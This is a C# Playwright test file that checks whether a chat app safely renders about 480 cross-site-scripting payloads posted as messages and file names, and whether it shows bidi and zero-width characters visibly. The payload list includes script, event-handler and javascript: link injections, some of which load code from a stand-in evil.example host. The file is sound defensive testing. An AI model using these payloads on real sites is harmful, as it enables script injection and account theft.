using EscalationRoom.Browser.Tests.Hosting;
using EscalationRoom.Domain.Rooms;
using Microsoft.Playwright;

namespace EscalationRoom.Browser.Tests;

public sealed class ShowingHostileWords(RunningApp app) : IClassFixture<RunningApp>
{
    private const int PerRoom = 150;

    internal static readonly string[] Scripts =
    [
        "<script>hit()</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror=hit()>", "<svg onload=hit()>", "<svg><script>hit()</script></svg>",
        "<iframe src=javascript:hit()></iframe>", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>", "<body onload=hit()>", "<details open ontoggle=hit()>", "<video src=//evil.example/v onerror=hit()>",
        "<object data=javascript:hit()>", "<embed src=//evil.example/e>", "<a href=javascript:hit()>x</a>", "<a href='java&#10;script:hit()'>x</a>", "<form action=//evil.example><input name=q autofocus onfocus=hit()>",
        "<math><mtext><table><mglyph><style><img src=x onerror=hit()>", "<link rel=stylesheet href=//evil.example/c.css>", "<style>@import '//evil.example/c.css';</style>", "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>",
        "<template><img src=x onerror=hit()></template>", "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<select><style></select><img src=x onerror=hit()></style>", "<input autofocus onfocus=hit()>", "<marquee onstart=hit()>",
        "[x](javascript:hit())", "[x](JaVaScRiPt:hit())", "[x](data:text/html,<script>hit()</script>)", "[x](vbscript:hit())", "![x](//evil.example/p.png)", "![x](javascript:hit())", "![x](\"onerror=\"hit())", "<javascript:hit()>", "[x]: javascript:hit()\n[x]",
        "`<img src=x onerror=hit()>`", "\" onmouseover=\"hit()", "' autofocus onfocus='hit()", "{{constructor.constructor('hit()')()}}", "${hit()}", "@(await hit())", "</textarea><script>hit()</script>", "</title><script>hit()</script>", "--><script>hit()</script>", "]]><script>hit()</script>",
        "\u202E)(tih\u202C", "<a\u0000 href=javascript:hit()>x</a>", "\uFF1Cscript\uFF1Ehit()\uFF1C/script\uFF1E", "<scr\u200Bipt>hit()</scr\u200Bipt>",
    ];

    private static readonly Func<string, string>[] Wrappings =
    [
        it => it, it => $"**{it}**", it => $"> {it}", it => $"- {it}\n- {it}", it => $"[{it}](https://a.example)", it => $"[x](https://a.example/{it})", it => $"@Priya.Raman {it}", it => System.Net.WebUtility.HtmlEncode(it), it => Uri.EscapeDataString(it), it => $"```\n{it}\n```",
    ];

    public static IReadOnlyList<string> Corpus { get; } = [.. Wrappings.SelectMany(wrap => Scripts.Select(wrap))];

    [Fact]
    public async Task Nothing_anybody_writes_runs_loads_from_elsewhere_or_is_reported()
    {
        Assert.SkipUnless(Chromium.IsThere, Chromium.WhyNot);
        Assert.True(Corpus.Count >= 400, $"There are {Corpus.Count}.");
        await using var sofia = await app.Open("u-sofia");
        var elsewhere = new List<string>();
        sofia.Page.Context.Request += (_, request) =>
        {
            if (new Uri(request.Url).Authority != app.Address.Authority && !request.Url.StartsWith("data:", StringComparison.Ordinal) && !request.Url.StartsWith("blob:", StringComparison.Ordinal))
            {
                elsewhere.Add(request.Url);
            }
        };
        sofia.Page.Dialog += (_, dialog) => elsewhere.Add($"dialog {dialog.Message}");
        await sofia.Page.AddInitScriptAsync("window.hits = 0; window.hit = () => { window.hits++; }; window.reports = []; addEventListener('securitypolicyviolation', it => window.reports.push(`${it.violatedDirective} ${it.blockedURI}`));");
        foreach (var part in Corpus.Chunk(PerRoom))
        {
            var key = await new Story(app).Open();
            await app.Change(key, room => Say(room, part));
            await sofia.EnterRoom(key);
            var (rows, wrong) = await LookThrough(sofia);
            Assert.Empty(wrong);
            Assert.True(rows >= part.Length * 2, $"Only {rows} rows were looked at.");
        }

        Assert.Empty(elsewhere);
        Assert.Empty(sofia.Complaints);
    }

    [Fact]
    public async Task What_hides_or_turns_letters_is_shown_in_messages_names_and_titles()
    {
        Assert.SkipUnless(Chromium.IsThere, Chromium.WhyNot);
        var key = await new Story(app).Open();
        var priya = app.Person("u-priya");
        await app.Change(key, it => it.PostMessage(priya.Id, Lane.Internal, "pay \u202Egnp.exe now", app.Now));
        await app.Change(key, it => it.AddDocument(priya.Id, Lane.Internal, new StoredFile("re\u200Bport\u202Efdp.txt", "text/plain", 3, new string('a', 64)), app.Now));
        await using var sofia = await app.Open("u-sofia");
        await sofia.EnterRoom(key);

        await Assertions.Expect(sofia.Page.Locator(".rows .text").Last).ToHaveTextAsync("pay ⟦U+202E⟧gnp.exe now");
        await Assertions.Expect(sofia.Page.Locator(".document-name").Last).ToHaveTextAsync("re⟦U+200B⟧port⟦U+202E⟧fdp.txt");
    }

    private Domain.Result<MessagePosted> Say(Room room, string[] payloads)
    {
        Domain.Result<MessagePosted> last = default;
        foreach (var payload in payloads)
        {
            room.AddDocument(app.Person("u-priya").Id, Lane.Internal, new StoredFile(payload.Length > 200 ? payload[..200] : payload, "text/plain", 3, new string('a', 64)), app.Now);
            last = room.PostMessage(app.Person("u-priya").Id, Lane.Internal, payload, app.Now);
        }

        return last;
    }

    /// <summary>Goes up through the whole room. How many rows it saw, and what is wrong with them, if anything.</summary>
    private static async Task<(int Rows, string[] Wrong)> LookThrough(Someone who)
    {
        var found = await who.Page.EvaluateAsync<string[]>(
        """
        async () => {
          const scroller = document.querySelector('.scroller'), wrong = new Set(), seen = new Set(), wait = ms => new Promise(done => setTimeout(done, ms));
          for (let page = 0; page < 600 && !(page > 0 && !document.querySelector('[data-edge=older]')); page++) {
            scroller.scrollTop = 0;
            await wait(150);
            document.querySelectorAll('.rows .row[data-number]').forEach(it => seen.add(it.id));
            document.querySelectorAll('.rows a[href^="http"], .rows summary').forEach(it => it.dispatchEvent(new MouseEvent('mouseover', { bubbles: true })));
            document.querySelectorAll('.rows :is(script, iframe, object, embed, img, video, style, link, base, meta, form, input, math)').forEach(it => wrong.add(it.outerHTML.slice(0, 200)));
            document.querySelectorAll('.rows .text *').forEach(it => [...it.attributes].filter(at => /^on|style|srcdoc/.test(at.name) || /^\s*(javascript|data|vbscript):/i.test(at.value)).forEach(at => wrong.add(`${it.tagName} ${at.name}=${at.value}`)));
          }
          return [String(seen.size), ...wrong, ...window.reports, ...(window.hits ? [`${window.hits} ran`] : [])];
        }
        """);
        return (int.Parse(found[0], System.Globalization.CultureInfo.InvariantCulture), found[1..]);
    }
}
